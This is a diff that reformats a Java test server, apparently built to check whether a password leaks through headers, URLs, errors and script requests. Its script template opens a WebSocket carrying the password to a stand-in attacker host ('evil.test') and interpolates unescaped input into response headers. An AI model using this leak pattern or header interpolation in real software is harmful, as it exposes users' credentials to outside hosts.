@@ -47,7 +47,8 @@ final class EchoingSite implements AutoCloseable {
 
     private void answer(HttpExchange exchange) throws IOException {
         try (exchange) {
-            Map<String, String> form = form(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
+            Map<String, String> form =
+                    form(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
             switch (exchange.getRequestURI().getPath()) {
                 case "/sign-on" -> send(exchange, 200, SIGN_ON);
                 case "/enter" -> {
@@ -56,11 +57,16 @@ final class EchoingSite implements AutoCloseable {
                 }
                 case "/export" -> {
                     exchange.getResponseHeaders()
-                            .set("Content-Disposition", "attachment; filename=\"" + form(exchange).get("p") + ".csv\"");
+                            .set(
+                                    "Content-Disposition",
+                                    "attachment; filename=\"" + form(exchange).get("p") + ".csv\"");
                     send(exchange, 200, "a,b\n");
                 }
                 case "/ask" -> {
-                    exchange.getResponseHeaders().set("WWW-Authenticate", "Basic realm=\"" + form(exchange).get("p") + "\"");
+                    exchange.getResponseHeaders()
+                            .set(
+                                    "WWW-Authenticate",
+                                    "Basic realm=\"" + form(exchange).get("p") + "\"");
                     send(exchange, 401, "who is there?");
                 }
                 default -> send(exchange, 404, "nothing is called " + exchange.getRequestURI());
@@ -90,10 +96,7 @@ final class EchoingSite implements AutoCloseable {
                 open('/sign-on?p=PASSWORD', 'PASSWORD'); location.href = '/export?p=PASSWORD';
                 setTimeout(() => { throw new Error('cannot sign on with PASSWORD for NUMBER') });
                 Promise.reject(new Error('PASSWORD')); fetch('/PASSWORD/NUMBER'); new WebSocket('ws://PASSWORD.evil.test/');
-                </script>"""
-                .replace("PASSWORD", password)
-                .replace("NUMBER", number)
-                .replace("USER", form.getOrDefault("u", ""));
+                </script>""".replace("PASSWORD", password).replace("NUMBER", number).replace("USER", form.getOrDefault("u", ""));
     }
 
     private static Map<String, String> form(HttpExchange exchange) {
